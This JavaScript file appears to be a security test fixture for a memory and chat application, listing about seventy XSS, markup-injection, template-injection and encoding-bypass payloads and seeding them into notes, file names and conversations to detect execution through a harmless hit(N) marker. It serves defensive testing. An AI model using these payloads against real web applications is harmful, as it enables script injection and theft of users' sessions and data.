// Texts that try to be more than text. Each carries a number; if one of them runs, it says which by `hit(N)`.
import { World } from "./world.mjs";

const CALL = (n) => `hit(${n})`;
const AWAY = "http://elsewhere.invalid/";

const PAYLOADS = [
  (n) => `<script>${CALL(n)}</script>`,
  (n) => `<SCRIPT SRC=${AWAY}${n}.js></SCRIPT>`,
  (n) => `<scr<script>ipt>${CALL(n)}</scr</script>ipt>`,
  (n) => `<img src=x onerror=${CALL(n)}>`,
  (n) => `<img src="${AWAY}${n}.png">`,
  (n) => `"><img src=x onerror=${CALL(n)}>`,
  (n) => `'><img src=x onerror=${CALL(n)}>`,
  (n) => `<svg onload=${CALL(n)}>`,
  (n) => `<svg><script>${CALL(n)}</script></svg>`,
  (n) => `<svg><animate onbegin=${CALL(n)} attributeName=x dur=1s>`,
  (n) => `<svg><a xlink:href="javascript:${CALL(n)}"><text x=9 y=9>x</text></a></svg>`,
  (n) => `<svg><foreignObject><iframe srcdoc="<script>parent.${CALL(n)}</script>"></iframe></foreignObject></svg>`,
  (n) => `<svg><use href="${AWAY}${n}.svg#x"/></svg>`,
  (n) => `<math><mtext></form><form><mglyph><style></math><img src=x onerror=${CALL(n)}>`,
  (n) => `<iframe src="javascript:${CALL(n)}"></iframe>`,
  (n) => `<iframe srcdoc="&lt;script&gt;parent.${CALL(n)}&lt;/script&gt;"></iframe>`,
  (n) => `<object data="javascript:${CALL(n)}"></object>`,
  (n) => `<embed src="javascript:${CALL(n)}">`,
  (n) => `<body onload=${CALL(n)}>`,
  (n) => `<details open ontoggle=${CALL(n)}>x</details>`,
  (n) => `<input autofocus onfocus=${CALL(n)}>`,
  (n) => `<select autofocus onfocus=${CALL(n)}></select>`,
  (n) => `<textarea autofocus onfocus=${CALL(n)}></textarea>`,
  (n) => `<video src=x onerror=${CALL(n)}></video>`,
  (n) => `<audio src=x onerror=${CALL(n)}></audio>`,
  (n) => `<marquee onstart=${CALL(n)}>x</marquee>`,
  (n) => `<a href="javascript:${CALL(n)}">click</a>`,
  (n) => `[click](javascript:${CALL(n)})`,
  (n) => `![x](${AWAY}${n}.gif)`,
  (n) => `![x](javascript:${CALL(n)})`,
  (n) => `[x]: javascript:${CALL(n)}`,
  (n) => `<javascript:${CALL(n)}>`,
  (n) => `<style>@import "${AWAY}${n}.css";</style>`,
  (n) => `<style>body{background:url(${AWAY}${n})}</style>`,
  (n) => `<link rel=stylesheet href=${AWAY}${n}.css>`,
  (n) => `<link rel=prefetch href=${AWAY}${n}>`,
  (n) => `<meta http-equiv=refresh content="0;url=${AWAY}${n}">`,
  (n) => `<base href=${AWAY}>`,
  (n) => `<form action=${AWAY}><button autofocus>x</button></form>`,
  (n) => `<button formaction=javascript:${CALL(n)}>x</button>`,
  (n) => `<div style="background:url(${AWAY}${n})">x</div>`,
  (n) => `<div style="animation:x" onanimationstart=${CALL(n)}>x</div>`,
  (n) => `<p onmouseover=${CALL(n)}>x</p>`,
  (n) => `<template><script>${CALL(n)}</script></template>`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=${CALL(n)}>">`,
  (n) => `<title><img src=x onerror=${CALL(n)}></title>`,
  (n) => `<!--><img src=x onerror=${CALL(n)}>-->`,
  (n) => `<![CDATA[<script>${CALL(n)}</script>]]>`,
  (n) => `<?xml version="1.0"?><x onload=${CALL(n)}/>`,
  (n) => `&lt;img src=x onerror=${CALL(n)}&gt;`,
  (n) => `&#60;script&#62;${CALL(n)}&#60;/script&#62;`,
  (n) => `\u003cscript\u003e${CALL(n)}\u003c/script\u003e`,
  (n) => `\\x3cscript\\x3e${CALL(n)}\\x3c/script\\x3e`,
  (n) => `%3Cscript%3E${CALL(n)}%3C/script%3E`,
  (n) => `＜script＞${CALL(n)}＜/script＞`,
  (n) => `<scri\u0000pt>${CALL(n)}</scri\u0000pt>`.replaceAll("\u0000", "\u200b"),
  (n) => `\u202e<img src=x onerror=${CALL(n)}>`,
  (n) => `\${${CALL(n)}}`,
  (n) => `{{constructor.constructor('${CALL(n)}')()}}`,
  (n) => `#{${CALL(n)}} <%= ${CALL(n)} %>`,
  (n) => `';${CALL(n)};//`,
  (n) => `";${CALL(n)};//`,
  (n) => `\`;${CALL(n)};//`,
  (n) => `</script><script>${CALL(n)}</script>`,
  (n) => `</textarea><img src=x onerror=${CALL(n)}>`,
  (n) => `</mark></p></article><img src=x onerror=${CALL(n)}>`,
  (n) => `__proto__[innerHTML]=<img/src/onerror=${CALL(n)}>`,
  (n) => `data:text/html,<script>${CALL(n)}</script>`,
  (n) => `<a href="data:text/html,<script>opener.${CALL(n)}</script>" target=_blank>x</a>`,
  (n) => `<x contenteditable onblur=${CALL(n)} tabindex=1>x</x>`,
  (n) => `<dialog open onclose=${CALL(n)}><form method=dialog><button>x</button></form></dialog>`,
  (n) => `<img srcset="${AWAY}${n} 1x" src=x>`,
];

export const corpus = PAYLOADS.map((payload, index) => payload(index));

// Every payload in every place that a text can come from: prose, headings, facts, keys, names of files, conversations.
export async function hostileWorld() {
  const world = new World("hostile");
  corpus.forEach((text, index) => {
    const line = text.replaceAll("\n", " ");
    const day = `2026-03-${String(1 + (index % 28)).padStart(2, "0")}`;
    world.write(`memory/${day}-p${index}.md`, [`# payload ${index} ${line}`, "", `Prose payload ${line}`, "", `- payload item ${line}`, "",
      `- W @payload @p${index}: Fact payload ${line}`, `- O(key=k.${index},src=chat:${index}) @payload: ${line}`, "", "```html", line, "```", "", `> ${line}`, ""].join("\n"));
  });
  world.write("memory/<img src=x onerror=hit(900)>.md", "# payload in the name of a file\n\nFile payload.\n");
  world.write("memory/a\"onmouseover=hit(901) b.md", "# payload in another name\n\nFile payload.\n");
  world.write("MEMORY.md", corpus.map((text) => `- ${text}`).join("\n"));
  world.write("SOUL.md", corpus.slice(0, 20).join("\n\n"));
  for (const [index, text] of corpus.entries()) if (index % 6 === 0) world.say("talk", index % 4 ? "assistant" : "user", `payload ${text}`);
  world.say("talk", "user", `payload ${corpus.join("\n")}`);
  world.run("session", "compact", "--session", "talk");
  world.run("index");
  return world.serve();
}
